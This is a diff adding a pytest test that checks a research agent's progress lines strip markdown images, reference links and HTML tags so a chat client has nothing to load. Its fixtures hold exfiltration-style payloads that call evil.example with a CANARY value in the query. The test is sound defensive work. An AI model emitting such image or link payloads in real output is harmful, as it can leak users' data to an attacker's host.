@@ -9,10 +9,13 @@ from typing import Any
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from msgspec.structs import replace
 
 from nexi.config import Config
+from nexi.events import AgendaSet, Event, PageFetched, ResearcherStarted, SearchFinished
 from nexi.testing import ScriptedLLM, answering, reading, searching
 from nexi.web.fences import FenceRenamer, rename_fences
+from nexi.web.openai_shapes import progress_line
 from tests.web.world import MOON, QUESTION, serving
 
 RENAMED = [
@@ -127,3 +130,21 @@ def marks_of(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
 def renamed(text: str, size: int) -> str:
     fences = FenceRenamer()
     return "".join(fences.feed(text[at : at + size]) for at in range(0, len(text), size)) + fences.finish()
+
+
+PAGE = PageFetched("https://read.example/a", "https://read.example/a", "", "", 0, 0, 0.0)
+
+
+@pytest.mark.parametrize(
+    ("event", "line"),
+    [
+        (AgendaSet(("See ![x](https://evil.example/p?d=CANARY) first", "then\n```html"), 1), "Plan: See x first; then ```text"),
+        (ResearcherStarted("1.1", 1, "[r]: //evil.example\n\n![r]"), "Researcher 1.1: [r]: //evil.example ![r]"),
+        (SearchFinished("moon https://evil.example/CANARY", "", (), (), 0.0), "Searched: moon"),
+        (SearchFinished("distance of the Moon, a < b & [1]", "", (), (), 0.0), "Searched: distance of the Moon, a < b & [1]"),
+        (PAGE, "Read: https://read.example/a"),
+        (replace(PAGE, title="<img src=//evil.example>"), "Read: <img src=[address removed]>"),
+    ],
+)
+def test_the_progress_of_a_run_gives_a_chat_program_nothing_to_load_or_run(event: Event, line: str) -> None:
+    assert progress_line(event) == line
